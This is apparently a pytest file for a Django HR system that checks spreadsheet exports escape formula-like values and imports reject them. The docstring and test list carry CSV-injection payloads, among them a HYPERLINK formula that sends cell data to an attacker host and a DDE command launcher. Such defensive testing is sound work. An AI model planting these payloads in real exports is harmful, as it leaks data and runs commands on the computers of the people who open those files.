"""No exported cell runs as a spreadsheet formula, and names that look like one are refused.

The attack: an employee name (or a unit, a position) such as
``=HYPERLINK("http://penyerang/?"&A1,"Klik")`` is stored, and when HR opens an export in
Excel the cell runs: it leaks data or launches commands (OWASP "CSV injection").
"""

import csv
import io
from decimal import Decimal

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from agencies.export_formats import SafeCSV, SafeXLSX
from agencies.importing.specs import EmployeeSpec, UnitSpec
from agencies.importing.writer import write_csv, write_xlsx
from agencies.models import Employee, Unit

from .import_files import csv_bytes, employee_row, messages, run, table

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_xlsx_writer_escapes_every_formula_start(text):
    rows = _cells(write_xlsx(["Nama", "NIP"], [[text, text]], text_headers=["NIP"]))
    for value, data_type in rows[1]:
        assert data_type != "f"
        assert value == "'" + text


def test_numbers_stay_numbers_in_exports():
    rows = _cells(write_xlsx(["Nilai", "Utang"], [[Decimal("-12.5"), -3]]))
    assert rows[1] == [(-12.5, "n"), (-3, "n")]
    lines = write_csv(["Nilai"], [[-3], ["-3"]]).decode("utf-8-sig").splitlines()
    assert lines == ["Nilai", "-3", "'-3"]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_csv_writer_escapes_every_formula_start(text):
    content = write_csv(["Nama"], [[text]]).decode("utf-8-sig")
    (cell,) = list(csv.reader(io.StringIO(content), delimiter=";"))[1]
    assert cell == "'" + text


def test_the_hr_export_of_employees_escapes_a_stored_formula(personas, client):
    Employee.objects.filter(pk=personas.pegawai.pk).update(name=ATTACKS[0])
    Unit.objects.filter(pk=personas.unit_a.pk).update(name="=1+1")
    client.force_login(personas.hr_a.user)
    for kind in ("employees", "units"):
        response = client.get(reverse("export", args=[kind]))
        assert response.status_code == 200
        values = [cell for row in _cells(response.content) for cell in row]
        assert all(data_type != "f" for _value, data_type in values)
        assert any(v in ("'" + ATTACKS[0], "'=1+1") for v, _t in values)


@override_settings(IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT=True)
def test_the_admin_export_formats_escape_formulas_and_keep_numbers():
    import tablib

    for fmt in (SafeCSV(), SafeXLSX()):
        dataset = tablib.Dataset(["=1+1", 7], headers=["Nama", "Kelas"])
        content = fmt.export_data(dataset)
        if isinstance(content, str):
            assert "'=1+1" in content
        else:
            assert _cells(content)[1] == [("'=1+1", "s"), (7, "n")]


def test_the_setting_of_django_import_export_is_on(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


@pytest.mark.parametrize("header", ["Nama", "Gelar Depan", "Gelar Belakang"])
def test_an_import_refuses_a_name_or_title_that_starts_like_a_formula(personas, header):
    row = employee_row(position=personas.pegawai.position.code, unit=personas.unit_a.code)
    row[header] = ATTACKS[0]
    result = run("employees", csv_bytes(table(EmployeeSpec.headers(), [row])), "p.csv",
                 region=personas.region)  # fmt: skip
    assert messages(result) == [
        f"Baris 2, kolom {header}: tidak boleh diawali =, +, -, atau @ "
        "(dapat dijalankan sebagai rumus spreadsheet)"
    ]


def test_an_import_refuses_a_unit_name_that_starts_like_a_formula(personas):
    rows = [{"Kode Unit": "X1", "Nama Unit": "@SUM(A1)", "Kode Induk": "",
             "Kode Perangkat Daerah": personas.agency_a.code}]  # fmt: skip
    result = run("units", csv_bytes(table(UnitSpec.headers(), rows)), "u.csv",
                 region=personas.region)  # fmt: skip
    assert [m.split(":")[0] for m in messages(result)] == ["Baris 2, kolom Nama Unit"]
